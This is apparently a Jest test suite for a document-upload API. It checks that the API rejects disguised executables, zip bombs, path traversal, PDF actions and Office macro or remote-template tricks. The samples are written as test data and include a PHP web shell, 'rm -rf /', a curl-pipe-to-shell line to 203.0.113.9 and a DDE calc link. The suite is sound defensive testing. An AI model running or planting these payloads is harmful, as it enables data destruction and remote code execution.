import { EVENT_STORE } from '../libs/application/src';
import type { EventStore } from '../libs/event-store/src';
import { ContentStore } from '../libs/evidence/src';
import { existsSync, readFileSync } from 'node:fs';
import { request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { join } from 'node:path';
import { startApi, USER_PASSWORD, type ApiHarness, type Client } from './api-harness';
import { deflateSync } from 'node:zlib';
import {
  biff,
  boundSheet,
  compressible,
  objectStream,
  officePackage,
  ordinaryPdf,
  oleFile,
  oleStream,
  packagerObject,
  pdfStream,
  pdfWith,
  peExecutable,
  pptRecord,
  realDocx,
  realPng,
  realPptx,
  realXlsx,
  rel,
  relationships,
  vbaStorage,
} from './fixtures/evidence-bypasses';
import { EICAR, jpeg, multipart, ole, ooxml, pdf, png, renameEntry, zip } from './fixtures/evidence-files';

const LIMIT = 1_000_000;

interface Case {
  name: string;
  build: () => Promise<{ body: Buffer; contentType: string }> | { body: Buffer; contentType: string };
  status: number;
  code?: string;
}

const file = (filename: string, content: Buffer, encodedName = false) =>
  multipart([{ field: 'file', filename, content, encodedName }]);

describe('evidence uploads (佐证材料)', () => {
  let api: ApiHarness;
  let store: EventStore;
  let files: ContentStore;
  let owner: Client;
  let other: Client;
  let taskId: string;

  beforeAll(async () => {
    api = await startApi({ EVIDENCE_MAX_BYTES: String(LIMIT), EVIDENCE_SCANNER: 'eicar' });
    store = api.app.get(EVENT_STORE);
    files = new ContentStore(join(api.dataDir, 'evidence'));
    const created = await api.createUser('upload.owner');
    owner = created.client;
    other = (await api.createUser('other.owner')).client;
    taskId = await api.defineTask(await api.createPlan(), created.userId);
  });
  afterAll(() => api.close());

  const send = (client: Client, request: { body: Buffer; contentType: string }) =>
    client.post(`/api/tasks/${taskId}/evidence`).set('Content-Type', request.contentType).send(request.body);

  const BAD: Case[] = [
    {
      name: 'an executable renamed .pdf',
      build: () =>
        file('年度报告.pdf', Buffer.concat([Buffer.from('MZ\x90\x00\x03', 'latin1'), Buffer.alloc(200)])),
      status: 415,
      code: 'unsupported-type',
    },
    {
      name: 'an ELF binary renamed .pdf',
      build: () => file('a.pdf', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(100)])),
      status: 415,
    },
    {
      name: 'a Mach-O binary renamed .pdf',
      build: () => file('a.pdf', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])),
      status: 415,
    },
    {
      name: 'a Java class renamed .pdf',
      build: () => file('a.pdf', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])),
      status: 415,
    },
    {
      name: 'a shell script renamed .docx',
      build: () => file('a.docx', Buffer.from('#!/bin/sh\nrm -rf /\n')),
      status: 415,
    },
    {
      name: 'a PHP script renamed .jpg',
      build: () => file('a.jpg', Buffer.from('<?php system($_GET["c"]); ?>')),
      status: 415,
    },
    {
      name: 'an HTML page renamed .pdf',
      build: () => file('a.pdf', Buffer.from('<html><script>alert(1)</script></html>')),
      status: 415,
    },
    {
      name: 'an SVG with script',
      build: () =>
        file(
          '图.svg',
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ),
      status: 415,
    },
    {
      name: 'an SVG with script renamed .png',
      build: () => file('图.png', Buffer.from('<svg onload="alert(1)"></svg>')),
      status: 415,
    },
    { name: 'an empty file', build: () => file('空.pdf', Buffer.alloc(0)), status: 422, code: 'empty-file' },
    {
      name: 'one byte over the limit',
      build: () => file('大.pdf', pad(pdf(), LIMIT + 1)),
      status: 413,
      code: 'file-too-large',
    },
    {
      name: 'a DOCX zip bomb',
      build: async () =>
        file(
          '炸弹.docx',
          await ooxml('word/document.xml', [
            { name: 'word/media/zeros.bin', content: Buffer.alloc(20 * 1024 * 1024) },
          ]),
        ),
      status: 422,
      code: 'zip-bomb',
    },
    {
      name: 'a DOCX with a ../ entry',
      build: async () =>
        file(
          'a.docx',
          renameEntry(
            await ooxml('word/document.xml', [{ name: 'xx/evil.sh', content: 'x' }]),
            'xx/evil.sh',
            '../evil.sh',
          ),
        ),
      status: 422,
    },
    {
      name: 'a DOCX with an absolute entry path',
      build: async () =>
        file(
          'a.docx',
          renameEntry(
            await ooxml('word/document.xml', [{ name: 'etc/passwdx', content: 'x' }]),
            'etc/passwdx',
            '/etc/passwd',
          ),
        ),
      status: 422,
    },
    {
      name: 'a DOCX with a backslash entry path',
      build: async () =>
        file(
          'a.docx',
          renameEntry(
            await ooxml('word/document.xml', [{ name: 'xx/evil.txt', content: 'x' }]),
            'xx/evil.txt',
            '..\\evil.txt',
          ),
        ),
      status: 422,
    },
    { name: 'x.pdf.exe', build: () => file('x.pdf.exe', pdf()), status: 415, code: 'extension-mismatch' },
    {
      name: 'a name with a NUL',
      build: () => file('report\u0000.pdf', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name with an RTL override',
      build: () => file('invoice\u202efdp.exe', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name with an LRO',
      build: () => file('a\u202d.pdf', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name with an RLI isolate',
      build: () => file('a\u2067b.pdf', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name with a newline',
      build: () => file('a\nb.pdf', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name with a tab',
      build: () => file('a\tb.pdf', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name of two dots',
      build: () => file('..', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name that is only a path',
      build: () => file('../../', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    { name: 'a device name', build: () => file('CON.pdf', pdf()), status: 422, code: 'unsafe-file-name' },
    {
      name: 'a name of 300 characters',
      build: () => file(`${'长'.repeat(300)}.pdf`, pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a name without an extension',
      build: () => file('报告', pdf(), true),
      status: 422,
      code: 'unsafe-file-name',
    },
    {
      name: 'a PDF+ZIP polyglot',
      build: async () =>
        file(
          'a.pdf',
          pdf(
            `1 0 obj << >> stream\n${(await zip([{ name: 'a.txt', content: 'x' }])).toString('latin1')}\nendstream`,
          ),
        ),
      status: 422,
      code: 'polyglot-file',
    },
    {
      name: 'a JPEG+ZIP polyglot',
      build: async () => file('a.jpg', jpeg(await zip([{ name: 'a.txt', content: 'x' }]))),
      status: 422,
      code: 'polyglot-file',
    },
    {
      name: 'a PNG with a ZIP inside',
      build: async () => file('a.png', png(await zip([{ name: 'a.txt', content: 'x' }]))),
      status: 422,
      code: 'polyglot-file',
    },
    {
      name: 'a PNG with data after its end',
      build: () => file('a.png', Buffer.concat([png(), Buffer.from('<script>')])),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a JPEG with HTML inside',
      build: () => file('a.jpg', jpeg(Buffer.from('<html><script>alert(1)</script>'))),
      status: 422,
      code: 'polyglot-file',
    },
    {
      name: 'EICAR inside a PDF',
      build: () => file('a.pdf', pdf(`% ${EICAR}`)),
      status: 422,
      code: 'infected-file',
    },
    {
      name: 'EICAR inside a DOCX part',
      build: async () =>
        file('a.docx', await ooxml('word/document.xml', [{ name: 'word/media/eicar.txt', content: EICAR }])),
      status: 422,
      code: 'infected-file',
    },
    {
      name: 'the EICAR file itself renamed .pdf',
      build: () => file('eicar.pdf', Buffer.from(EICAR)),
      status: 415,
    },
    {
      name: 'a PDF with JavaScript',
      build: () =>
        file('a.pdf', pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF that launches a program',
      build: () => file('a.pdf', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an embedded file',
      build: () => file('a.pdf', pdf('1 0 obj << /Type /EmbeddedFile >> endobj')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a truncated PDF',
      build: () => file('a.pdf', Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\n')),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a truncated PNG',
      build: () => file('a.png', png().subarray(0, 30)),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a truncated JPEG',
      build: () => file('a.jpg', jpeg().subarray(0, 40)),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a GIF renamed .png',
      build: () => file('a.png', Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1')),
      status: 415,
    },
    {
      name: 'a BMP renamed .png',
      build: () => file('a.png', Buffer.from('BM\x00\x00\x00\x00', 'latin1')),
      status: 415,
    },
    {
      name: 'a WebP renamed .jpg',
      build: () => file('a.jpg', Buffer.from('RIFF\x00\x00\x00\x00WEBPVP8 ', 'latin1')),
      status: 415,
    },
    {
      name: 'a TIFF renamed .jpg',
      build: () => file('a.jpg', Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0])),
      status: 415,
    },
    {
      name: 'a RAR renamed .docx',
      build: () => file('a.docx', Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1')),
      status: 415,
    },
    {
      name: 'a 7z renamed .xlsx',
      build: () => file('a.xlsx', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])),
      status: 415,
    },
    {
      name: 'a gzip renamed .pdf',
      build: () => file('a.pdf', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])),
      status: 415,
    },
    {
      name: 'a plain ZIP renamed .docx',
      build: async () => file('a.docx', await zip([{ name: 'readme.txt', content: 'x' }])),
      status: 415,
      code: 'not-office-document',
    },
    {
      name: 'an Office package without its main part',
      build: async () => file('a.docx', await zip([{ name: '[Content_Types].xml', content: '<Types/>' }])),
      status: 415,
      code: 'not-office-document',
    },
    {
      name: 'an XLSX renamed .docx',
      build: async () => file('a.docx', await ooxml('xl/workbook.xml')),
      status: 415,
      code: 'extension-mismatch',
    },
    {
      name: 'a DOCX with macros',
      build: async () =>
        file('a.docx', await ooxml('word/document.xml', [{ name: 'word/vbaProject.bin', content: 'VBA' }])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'an OLE file that is not Office (an installer)',
      build: () => file('setup.doc', ole('SummaryInformation')),
      status: 415,
    },
    {
      name: 'a DOC renamed .xls',
      build: () => file('a.xls', ole('WordDocument')),
      status: 415,
      code: 'extension-mismatch',
    },
    {
      name: 'a package of 6,000 parts',
      build: async () =>
        file(
          'a.docx',
          await ooxml(
            'word/document.xml',
            Array.from({ length: 6000 }, (_, i) => ({ name: `p/${i}.xml`, content: 'x', compress: false })),
          ),
        ),
      status: 422,
      code: 'zip-bomb',
    },
    {
      name: 'a corrupt ZIP',
      build: () => file('a.docx', Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 0xee)])),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'two files in one request',
      build: () =>
        multipart([
          { field: 'file', filename: 'a.pdf', content: pdf() },
          { field: 'file', filename: 'b.pdf', content: pdf('2') },
        ]),
      status: 422,
      code: 'bad-multipart',
    },
    {
      name: 'the file in the wrong field',
      build: () => multipart([{ field: 'upload', filename: 'a.pdf', content: pdf() }]),
      status: 422,
    },
    {
      name: 'no file at all',
      build: () => multipart([{ field: 'note', content: Buffer.from('说明') }]),
      status: 422,
    },
    {
      name: 'a JSON body instead of a file',
      build: () => ({ body: Buffer.from('{"file":"JVBERi0="}'), contentType: 'application/json' }),
      status: 415,
      code: 'not-multipart',
    },
  ];

  const js: [number, string][] = [[9, '<< /S /JavaScript /JS (app.launchURL("http://203.0.113.9/")) >>']];
  const docxWith = (options: Parameters<typeof officePackage>[1]) => async () =>
    file('报告.docx', await officePackage('docx', options));
  const xlsxWith = (options: Parameters<typeof officePackage>[1]) => async () =>
    file('台账.xlsx', await officePackage('xlsx', options));
  const settingsRels = (...items: string[]) => ({
    parts: [{ name: 'word/_rels/settings.xml.rels', content: relationships(items) }],
  });
  const objectPool = (streams: Record<string, Buffer | string>) =>
    Object.fromEntries(Object.entries(streams).map(([k, v]) => [`ObjectPool/_1234/${k}`, v]));

  /** Bypasses of the old inspector (issue 12) and variants of each class (ADR 0012). */
  const BYPASSES: Case[] = [
    // PDF: names written with #xx escapes, content in object streams, actions the old filter ignored.
    {
      name: 'a PDF whose /JavaScript is written /J#61vaScript',
      build: () => file('a.pdf', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF whose /Launch is written /L#61unch',
      build: () => file('a.pdf', pdfWith('/OpenAction << /S /L#61unch /F (cmd.exe) >>')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with JavaScript inside a compressed object stream',
      build: () => file('a.pdf', pdfWith('/Names 9 0 R', [objectStream(js)])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an object stream encoded ASCIIHex then Flate',
      build: () =>
        file(
          'a.pdf',
          pdfWith('', [
            objectStream(js, {
              filter: '[/AHx /Fl]',
              encode: (d) => Buffer.from(`${deflateSync(d).toString('hex')}>`, 'latin1'),
            }),
          ]),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an object stream under a PNG predictor',
      build: () =>
        file(
          'a.pdf',
          pdfWith('', [
            objectStream(js, {
              extra: '/DecodeParms << /Predictor 12 /Columns 8 >>',
              encode: (d) => {
                const rows: Buffer[] = [];
                for (let i = 0; i < d.length; i += 8) {
                  const row = Buffer.alloc(8);
                  d.copy(row, 0, i, i + 8);
                  rows.push(Buffer.from([0]), row);
                }
                return deflateSync(Buffer.concat(rows));
              },
            }),
          ]),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF object stream without /Type, its filter name escaped',
      build: () =>
        file('a.pdf', pdfWith('', [objectStream(js, { type: '/Obj#53tm', filter: '/Fl#61teDecode' })])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an embedded file named in an object stream',
      build: () =>
        file(
          'a.pdf',
          pdfWith('/Names 9 0 R', [
            objectStream([[9, '<< /Embedded#46iles << /Names [(a.exe) 10 0 R] >> >>']]),
          ]),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF that opens a URL when opened (/OpenAction with a URI action)',
      build: () => file('a.pdf', pdfWith('/OpenAction << /S /URI /URI (http://203.0.113.9/track) >>')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF whose /OpenAction refers to an action object',
      build: () => file('a.pdf', pdfWith('/OpenAction 6 0 R', ['<< /Type /Action /S /Named /N /Print >>'])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with page additional actions (/AA)',
      build: () => file('a.pdf', pdfWith('/AA << /WC << /S /Named /N /Quit >> >>')),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with a RichMedia annotation (escaped)',
      build: () => file('a.pdf', pdfWith('', ['<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 1 1] >>'])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an XFA form',
      build: () => file('a.pdf', pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', ['<< >>'])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF that opens a remote file (GoToR)',
      build: () =>
        file(
          'a.pdf',
          pdfWith('', [
            '<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\s\\\\x.pdf) >> >>',
          ]),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF form that submits itself to a server',
      build: () =>
        file('a.pdf', pdfWith('', ['<< /FT /Btn /A << /S /SubmitForm /F (http://203.0.113.9/) >> >>'])),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PDF with an action object hidden inside another stream',
      build: () =>
        file(
          'a.pdf',
          pdfWith('', [pdfStream('', '6 0 obj << /Type /Action /S /GoToE /T << /R /C >> >> endobj')]),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'an encrypted PDF with object streams',
      build: () =>
        file(
          'a.pdf',
          pdfWith(
            '',
            [
              pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(64, 0x5a)),
              '<< /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>',
            ],
            '/Root 1 0 R /Encrypt 7 0 R',
          ),
        ),
      status: 422,
      code: 'encrypted-file',
    },
    {
      name: 'a PDF object stream that inflates to 130 MB',
      build: () =>
        file(
          'a.pdf',
          pdfWith('', [
            pdfStream(
              '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
              deflateSync(Buffer.alloc(130 * 1024 * 1024), { level: 9 }),
            ),
          ]),
        ),
      status: 422,
      code: 'zip-bomb',
    },
    {
      name: 'a PDF object stream in a filter that cannot be inspected',
      build: () =>
        file('a.pdf', pdfWith('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode', 'xxxx')])),
      status: 422,
      code: 'damaged-file',
    },
    // OOXML: decided by content types and relationships, not by part names.
    {
      name: 'a DOCX whose macro part is called styles2.dat (content type override)',
      build: docxWith({
        types: '<Override PartName="/word/styles2.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        mainRels: [
          rel('rId7', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'styles2.dat'),
        ],
        parts: [{ name: 'word/styles2.dat', content: oleFile(vbaStorage('')) }],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX whose macro part is typed by a Default extension only',
      build: docxWith({
        types: '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts: [{ name: 'word/theme/extra.dat', content: 'x' }],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCM (macro-enabled main part) renamed .docx',
      build: docxWith({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with a VBA project disguised as an image',
      build: docxWith({ parts: [{ name: 'word/media/image1.png', content: oleFile(vbaStorage('')) }] }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'an XLSX with an Excel 4.0 macro sheet',
      build: xlsxWith({
        types:
          '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        mainRels: [
          rel(
            'rId5',
            'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
            'macrosheets/sheet1.xml',
          ),
        ],
        parts: [
          {
            name: 'xl/macrosheets/sheet1.xml',
            content: '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
          },
        ],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with an embedded Packager object (oleObject)',
      build: docxWith({
        types:
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        mainRels: [rel('rId8', 'oleObject', 'embeddings/oleObject1.bin')],
        parts: [{ name: 'word/embeddings/oleObject1.bin', content: packagerObject() }],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with an oleObject part that is not even an OLE file',
      build: docxWith({
        mainRels: [rel('rId8', 'oleObject', 'embeddings/object.dat')],
        parts: [{ name: 'word/embeddings/object.dat', content: Buffer.alloc(100, 7) }],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with an ActiveX control',
      build: docxWith({
        types:
          '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        mainRels: [rel('rId9', 'control', 'activeX/activeX1.xml')],
        parts: [
          {
            name: 'word/activeX/activeX1.xml',
            content: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
          },
        ],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX that loads a remote template (settings.xml.rels)',
      build: docxWith(settingsRels(rel('rId1', 'attachedTemplate', 'http://203.0.113.9/normal.dotm', true))),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a DOCX that loads a remote template over SMB',
      build: docxWith(settingsRels(rel('rId1', 'attachedTemplate', 'file://203.0.113.9/share/t.dotm', true))),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a DOCX with a linked remote picture (document.xml.rels)',
      build: docxWith({ mainRels: [rel('rId5', 'image', 'http://203.0.113.9/pixel.png', true)] }),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a DOCX with a remote OLE link (document.xml.rels)',
      build: docxWith({ mainRels: [rel('rId6', 'oleObject', 'http://203.0.113.9/x.rtf', true)] }),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a DOCX whose web settings load a remote frame',
      build: docxWith({
        parts: [
          {
            name: 'word/_rels/webSettings.xml.rels',
            content: relationships([rel('rId1', 'frame', 'http://203.0.113.9/f.html', true)]),
          },
        ],
      }),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'an XLSX with an external (DDE) link part',
      build: xlsxWith({
        types:
          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
        parts: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            content:
              '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          },
        ],
      }),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a [Content_Types].xml with a DTD (entity expansion)',
      build: async () => {
        const bytes = await officePackage('docx');
        return file(
          'a.docx',
          await zip([
            {
              name: '[Content_Types].xml',
              content:
                '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            },
            { name: 'word/document.xml', content: `<x>${bytes.length}</x>` },
          ]),
        );
      },
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a DOCX with two entries of the same name',
      build: async () =>
        file(
          'a.docx',
          await zip([
            {
              name: '[Content_Types].xml',
              content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            },
            { name: 'word/document.xml', content: '<w:document/>' },
            { name: 'Word/Document.xml', content: '<w:document/>' },
          ]),
        ),
      status: 422,
      code: 'damaged-file',
    },
    {
      name: 'a DOCX part with a compression ratio of about 150',
      build: docxWith({ parts: [{ name: 'word/media/big.bin', content: compressible(8 * 1024 * 1024) }] }),
      status: 422,
      code: 'zip-bomb',
    },
    {
      name: 'a DOCX of 2,500 parts',
      build: docxWith({
        parts: Array.from({ length: 2500 }, (_, i) => ({
          name: `customXml/item${i}.xml`,
          content: 'x',
          compress: false,
        })),
      }),
      status: 422,
      code: 'zip-bomb',
    },
    // Files inside files.
    {
      name: 'a DOCX containing a DOCX with macros',
      build: async () =>
        docxWith({
          parts: [
            {
              name: 'word/embeddings/Microsoft_Word_Document.docx',
              content: await officePackage('docx', {
                mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
              }),
            },
          ],
        })(),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX containing a ZIP containing a DOCX with a remote template',
      build: async () =>
        file(
          'a.docx',
          await officePackage('docx', {
            parts: [
              {
                name: 'word/media/archive.zip',
                content: await zip([
                  {
                    name: '资料/模板.docx',
                    content: await officePackage(
                      'docx',
                      settingsRels(rel('rId1', 'attachedTemplate', 'http://203.0.113.9/t.dotm', true)),
                    ),
                  },
                ]),
              },
            ],
          }),
        ),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'a DOCX containing an XLS with VBA',
      build: docxWith({
        parts: [
          {
            name: 'word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls',
            content: ole('Workbook', vbaStorage('_VBA_PROJECT_CUR/')),
          },
        ],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with EICAR inside a compressed ZIP inside it',
      build: async () =>
        docxWith({
          parts: [{ name: 'word/media/x.zip', content: await zip([{ name: 'readme.txt', content: EICAR }]) }],
        })(),
      status: 422,
      code: 'infected-file',
    },
    {
      name: 'a DOCX with a Windows program inside',
      build: docxWith({
        parts: [
          {
            name: 'word/media/image2.jpeg',
            content: peExecutable(),
          },
        ],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with a shell script inside',
      build: docxWith({
        parts: [{ name: 'customXml/item9.xml', content: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n' }],
      }),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOCX with ZIPs nested five deep',
      build: async () => {
        let inner = await officePackage('docx');
        for (let i = 0; i < 4; i++) inner = await zip([{ name: `level${i}.zip`, content: inner }]);
        return file(
          'a.docx',
          await officePackage('docx', { parts: [{ name: 'word/media/a.zip', content: inner }] }),
        );
      },
      status: 422,
      code: 'nesting-too-deep',
    },
    // Legacy Office: decided by the OLE storages, not the extension.
    {
      name: 'a DOC with a VBA project (Macros storage)',
      build: () => file('旧文档.doc', ole('WordDocument', vbaStorage('Macros/'))),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'an XLS with a VBA project (_VBA_PROJECT_CUR)',
      build: () => file('旧表格.xls', ole('Workbook', vbaStorage('_VBA_PROJECT_CUR/'))),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'an XLS with an Excel 4.0 macro sheet',
      build: () =>
        file('旧表格.xls', ole('Workbook', { Workbook: biff(boundSheet(0), boundSheet(1, 'Auto_Open')) })),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a PPT with a VBA project record',
      build: () =>
        file(
          '旧演示.ppt',
          ole('PowerPoint Document', {
            'PowerPoint Document': pptRecord(
              0x0f,
              0x03e8,
              pptRecord(0x0f, 0x03ff, pptRecord(0x02, 0x0400, Buffer.alloc(12))),
            ),
          }),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOC with an embedded Packager object',
      build: () =>
        file(
          '旧文档.doc',
          ole(
            'WordDocument',
            objectPool({ '\u0001CompObj': 'x', '\u0001Ole': oleStream(false), '\u0001Ole10Native': 'MZ' }),
          ),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOC with an Equation Editor object',
      build: () =>
        file(
          '旧文档.doc',
          ole('WordDocument', objectPool({ '\u0001CompObj': 'x', 'Equation Native': Buffer.alloc(40, 8) })),
        ),
      status: 422,
      code: 'active-content',
    },
    {
      name: 'a DOC with a linked (remote) object',
      build: () =>
        file(
          '旧文档.doc',
          ole('WordDocument', objectPool({ '\u0001CompObj': 'x', '\u0001Ole': oleStream(true) })),
        ),
      status: 422,
      code: 'external-reference',
    },
    {
      name: 'an XLS protected by a password (FILEPASS)',
      build: () =>
        file('旧表格.xls', ole('Workbook', { Workbook: biff([0x002f, Buffer.alloc(6)], boundSheet(0)) })),
      status: 422,
      code: 'encrypted-file',
    },
    {
      name: 'a password-protected DOCX (an encrypted OLE package)',
      build: () =>
        file(
          'a.docx',
          oleFile({ EncryptionInfo: Buffer.alloc(64, 4), EncryptedPackage: Buffer.alloc(600, 9) }),
        ),
      status: 422,
      code: 'encrypted-file',
    },
    {
      name: 'a damaged OLE file that merely mentions WordDocument',
      build: () =>
        file(
          'a.doc',
          Buffer.concat([
            Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
            Buffer.alloc(504, 0xff),
            Buffer.from('WordDocument', 'utf16le'),
            Buffer.alloc(512),
          ]),
        ),
      status: 422,
      code: 'damaged-file',
    },
  ];

  it('has a corpus of at least 50 bad uploads, and at least 30 bypasses of the old inspector', () => {
    expect(BAD.length).toBeGreaterThanOrEqual(50);
    expect(BYPASSES.length).toBeGreaterThanOrEqual(30);
  });

  it.each([...BAD, ...BYPASSES].map((c) => [c.name, c] as const))(
    'refuses %s with Problem Details, storing and writing nothing',
    async (_, c) => {
      const before = { head: await store.headPosition(), files: files.listAll() };
      const res = await send(owner, await c.build());
      expect(res.status).toBe(c.status);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      if (c.code) expect(res.body.code).toBe(c.code);
      expect(res.body.detail).toMatch(/[\u4e00-\u9fff]/);
      expect(await store.headPosition()).toBe(before.head);
      expect(files.listAll()).toEqual(before.files);
    },
    30_000,
  );

  it.each([
    ['PDF', () => file('建设成果.pdf', pdf())],
    ['PNG', () => file('截图.png', png())],
    ['JPEG', () => file('照片.jpeg', jpeg())],
    ['DOCX', async () => file('总结.docx', await ooxml('word/document.xml'))],
    ['XLSX', async () => file('台账.xlsx', await ooxml('xl/workbook.xml'))],
    ['PPTX', async () => file('汇报.pptx', await ooxml('ppt/presentation.xml'))],
    ['DOC', () => file('旧文档.doc', ole('WordDocument'))],
    ['XLS', () => file('旧表格.xls', ole('Workbook'))],
    ['PPT', () => file('旧演示.ppt', ole('PowerPoint Document'))],
    ['a file exactly at the limit', () => file('刚好.pdf', pad(pdf(), LIMIT))],
    [
      'a PDF as office suites write it (object streams, links, outline)',
      () => file('年度报告.pdf', ordinaryPdf()),
    ],
    [
      'a PDF whose title mentions /JavaScript in a string (not a name)',
      () =>
        file(
          '说明.pdf',
          pdf('4 0 obj << /Title (How to turn off /JavaScript and /Launch in readers) >> endobj'),
        ),
    ],
    ['a real PNG', () => file('截图2.png', realPng(320, 200))],
    [
      'a DOCX written by the docx library (table, picture, hyperlink)',
      async () => file('任务总结.docx', await realDocx()),
    ],
    [
      'an XLSX written by ExcelJS (formulas, hyperlink, picture)',
      async () => file('台账2.xlsx', await realXlsx()),
    ],
